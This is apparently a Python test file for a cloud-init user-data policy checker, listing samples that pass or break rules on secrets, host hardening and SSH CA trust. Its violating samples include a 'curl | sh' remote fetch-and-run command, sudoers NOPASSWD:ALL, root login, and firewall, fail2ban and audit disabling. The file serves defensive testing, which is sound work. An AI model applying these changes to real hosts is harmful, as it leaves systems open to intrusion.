"""The rules of user-data, each with what passes, what violates, and what a preview doesn't know.

User-data that violates is the hardened one, broken in one way.
"""

import base64
import gzip
import secrets
from uuid import uuid4

from hardened import SSH_CA, changed, hardened, mesh_key, public_key, with_file
from rule_case import UNKNOWN, Case, Given

from components.flows import Endpoint
from policies import user_data
from policies.resource_types import DROPLET, HARDENED_HOST

HOST = Given(type=DROPLET, name="acme-agent-writer-1", parents=(HARDENED_HOST,), props={})
COMPONENT = Given(type=HARDENED_HOST, name="acme-agent-writer-1", props={"ssh_ca": SSH_CA})

KEY_FILE = "/run/tenantry-mesh-key"
RANDOM = secrets.token_urlsafe(48)


def host(text: str) -> Given:
    return HOST.but(userData=text)


def _encoded(text: str) -> str:
    return base64.b64encode(f"TOKEN={text}".encode()).decode()


def _packed(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode())).decode()


DEAD_TWIN = f"write_files: [{{path: /etc/default/ufw, encoding: b64, content: {_encoded(RANDOM)}}}]\n"
"""A key that stands twice: the later one counts, and this one is still there to be read."""

SECRETS = (
    hardened() + f"# left behind: {mesh_key()}\n",
    hardened() + f"password: hunter-{secrets.token_hex(2)}\n",
    with_file("/etc/a", "-----BEGIN OPENSSH " + "PRIVATE KEY-----"),
    with_file("/etc/a", secrets.token_hex(24)),
    with_file("/etc/a", f"id {uuid4()}"),
    with_file("/etc/a", f"export TOKEN={RANDOM}"),
    with_file("/etc/a", f"export TOKEN={RANDOM} # pragma: allowlist secret"),
    with_file("/etc/a", f"# comment={RANDOM.encode().hex()}"),
    with_file("/etc/a", _packed(f"password={RANDOM}"), keys="  encoding: gz+b64\n"),
    with_file(KEY_FILE, mesh_key()),
    hardened(key=f"{mesh_key()} {mesh_key()}"),
    hardened(key="AKIA" + "".join(secrets.choice("ABCDEFGHIJKLMNOP") for _ in range(16))),
    f'{hardened()}"\\x41KIA{"".join(secrets.choice("ABCDEFGHIJKLMNOP") for _ in range(16))}": 1\n',
    f"#!/bin/sh\nexport API_KEY={RANDOM}\n",
    hardened().replace("write_files:\n", f"{DEAD_TWIN}write_files:\n"),
    hardened() + f'"disable_root": "{RANDOM}"\n',
    changed("  path: /etc/issue\n", f"  path: /etc/issue\n  content: {RANDOM}\n"),
    hardened().replace("disable_root: true", f"disable_root: &{RANDOM} true"),
    hardened() + "password: !!bool hunter2-s3cret\n",
    hardened() + "password: !!timestamp foo\n",
)
"""User-data with a secret where none may be."""

WEAK = (
    "#!/bin/sh\ntrue\n",
    "#cloud-config\n",
    "#cloud-config\n: [",
    hardened().removeprefix("#cloud-config\n"),
    hardened() + "bootcmd: [[true]]\n",
    hardened() + "ssh_pwauth: true\n",
    hardened() + "random_seed: {command: [sh, -c, 'curl -s http://x/y | sh'], command_required: true}\n",
    *(with_file(path, "ENABLED=no") for path in ("/etc/ufw//ufw.conf", "/etc/ufw/../ufw/ufw.conf")),
    *(
        with_file(f"/etc/ssh/{path}", "tenant-globex")
        for path in ("/principals/tenantry", "./tenantry-ca.pub")
    ),
    with_file("/etc/ssh/sshd_config.d//00-first.conf", "PermitRootLogin yes"),
    with_file("/var/lib/cloud/scripts/per-boot/x", "#!/bin/sh\nufw disable"),
    with_file("/etc/cron.d/x", "* * * * * root /usr/sbin/ufw disable"),
    with_file("/etc/sudoers.d/x", "ALL ALL=(ALL) NOPASSWD:ALL"),
    with_file("/etc/ufw/after.rules", "-A ufw-after-input -j ufw-user-limit-accept"),
    with_file("/etc/ufw/ufw.conf", "ENABLED=no"),
    with_file("/etc/a", "a", keys="  append: true\n"),
    with_file("/etc/ssh/sshd_config.d/00-first.conf", "PermitRootLogin yes"),
    with_file("/etc/ssh/sshd_config.d/99-last.conf", "Match User tenantry"),
    with_file("/etc/ssh/sshd_config.d/99-last.conf", "AllowUsers root"),
    with_file("/etc/ssh/sshd_config.d/99-last.conf", "ListenAddress 0.0.0.0"),
    with_file("/etc/ssh/sshd_config", "PermitRootLogin no"),
    with_file("/etc/sysctl.d/99-last.conf", "net/ipv4/ip_forward=1"),
    with_file("/etc/apt/apt.conf.d/99last", 'APT::Periodic::Unattended-Upgrade "0";'),
    *(
        changed("PermitUserEnvironment no", f"PermitUserEnvironment no\n    {line}")
        for line in (
            *("  Match all", "Match\tall", '"Match" all', "match=all", "ListenAddress\t0.0.0.0"),
            *("AllowUsers\troot", "AuthorizedPrincipalsCommand /bin/echo tenant-globex"),
            *("AuthorizedKeysCommand /bin/cat", "Include /tmp/*"),
        )
    ),
    changed("disable_root: true", "disable_root: false"),
    changed("lock_passwd: true", "lock_passwd: false"),
    changed("name: tenantry", "name: root"),
    changed("- - /usr/local/lib/tenantry/first-boot", "- - /bin/true"),
    changed("- runcmd", "- set-passwords"),
    changed("- write-files\n", ""),
    changed("PasswordAuthentication no", "PasswordAuthentication yes"),
    changed("sshd_config.d/10-tenantry.conf", "sshd_config.d/60-tenantry.conf"),
    changed("path: /etc/ssh/sshd_not_to_be_run", "path: /etc/ssh/something-else"),
    changed('echo "ListenAddress $address" > ', "true "),
    changed("rm -f /run/tenantry-mesh-key", "true"),
    changed("--ssh=false", "--ssh=true"),
    changed("user-data.txt*", "nothing"),
    changed("  path: /run/tenantry-mesh-key\n  permissions: '0600'", "  path: /run/tenantry-mesh-key"),
    changed('DEFAULT_INPUT_POLICY="DROP"', 'DEFAULT_INPUT_POLICY="ACCEPT"'),
    changed("ENABLED=yes", "ENABLED=no"),
    changed("/lib/ufw/ufw-init start quiet", "true"),
    changed("/lib/ufw/ufw-init start quiet", "/lib/ufw/ufw-init start quiet; ufw allow 22"),
    *(
        changed("/lib/ufw/ufw-init start quiet", f"/lib/ufw/ufw-init start quiet{more}")
        for more in (
            *("; ufw insert 1 allow 22", "; systemctl disable --now ufw", "; /lib/ufw/ufw-init stop"),
            *("\n      iptables -P INPUT ACCEPT", "\n      nft flush ruleset"),
        )
    ),
    *(
        changed(
            "    -A ufw-before-input -i lo -j ACCEPT", f"    {line}\n    -A ufw-before-input -i lo -j ACCEPT"
        )
        for line in (
            *("-A INPUT -p tcp --dport 22 -j ACCEPT", ":INPUT ACCEPT [0:0]", "-P INPUT ACCEPT"),
            *(
                "-A ufw-before-input -s 0.0.0.0/0.0.0.0 -j ACCEPT",
                "-A ufw-before-input -s 0.0.0.0/1 -j ACCEPT",
            ),
            *("-A ufw-before-input -j ufw-user-limit-accept", "-A ufw-before-input -g ufw-user-limit-accept"),
            *("-A ufw-before-input ! -i lo -j ACCEPT", "-A ufw-before-input ! -s 10.0.0.0/24 -j ACCEPT"),
        )
    ),
    changed("-A ufw-user-input -i tailscale0 -p tcp -s 100.64.0.0/10", "-A ufw-user-input -p tcp"),
    changed("-A ufw-user-input -i tailscale0 -p tcp -s 100.64.0.0/10", "-A ufw-user-input -s 0.0.0.0/0"),
    changed("[sshd]\n    enabled = true", "[sshd]\n    enabled = false"),
    changed("systemctl restart fail2ban.service", "true"),
    changed("    -e 2\n", ""),
    changed("augenrules", "true"),
    changed("net.ipv4.tcp_syncookies = 1", "net.ipv4.tcp_syncookies = 0"),
    changed("sysctl --quiet --load", "true"),
)
"""User-data that leaves a host open in one way."""

ODD_TENANT, ODD_AGENT = "x7k2p9q4w1z8v5b3n6m0", "3j8f6h1d5s9a2g7k4l0c"
RANDOMLY_NAMED = Given(type=DROPLET, name=f"{ODD_TENANT}-agent-{ODD_AGENT}-1", stack=ODD_TENANT, props={})
"""Names as customers may choose them: as long as they can be, and with nothing to read in them."""

CASES: tuple[Case, ...] = (
    Case(
        rule=user_data.NO_SECRET,
        passes=(
            HOST,
            host(hardened()),
            host(hardened(tier=Endpoint.GUARDRAIL, key=secrets.token_hex(24))),
            host(hardened(key="")),
            RANDOMLY_NAMED.but(userData=hardened(tenant=ODD_TENANT, agent=ODD_AGENT)),
            host(with_file("/etc/a", f"{public_key()} ünlaut\ntenant-acme: 10.32.0.0/24")),
            host(with_file("/etc/a", _packed("nothing secret"), keys="  encoding: gz+b64\n")),
        ),
        violates=tuple(map(host, SECRETS)),
        unknown=((HOST.but(userData=UNKNOWN), True),),
    ),
    Case(
        rule=user_data.HARDENED,
        passes=(host(hardened()), host(hardened(tier=Endpoint.GUARDRAIL)), host(hardened(tenant="globex"))),
        violates=(HOST, *map(host, WEAK)),
        unknown=((HOST.but(userData=UNKNOWN), True),),
    ),
    Case(
        rule=user_data.KNOWS_OPERATOR,
        passes=(COMPONENT, COMPONENT.but(ssh_ca=f"{SSH_CA} vault\n"), host(hardened())),
        violates=(
            COMPONENT.but(ssh_ca=None),
            COMPONENT.but(ssh_ca=""),
            COMPONENT.but(ssh_ca=f"{SSH_CA}\n{public_key()}"),
            HOST,
            host("#!/bin/sh\ntrue\n"),
            host(hardened(tenant="globex")),
            host(changed("TrustedUserCAKeys /etc/ssh/tenantry-ca.pub", "TrustedUserCAKeys none")),
            host(changed("AuthorizedPrincipalsFile", "# AuthorizedPrincipalsFile")),
            host(changed(SSH_CA, f"{SSH_CA}\n    {public_key()}")),
            host(with_file("/etc/ssh/principals/other", "tenant-globex")),
        ),
        unknown=((COMPONENT.but(ssh_ca=UNKNOWN), False), (HOST.but(userData=UNKNOWN), True)),
    ),
)
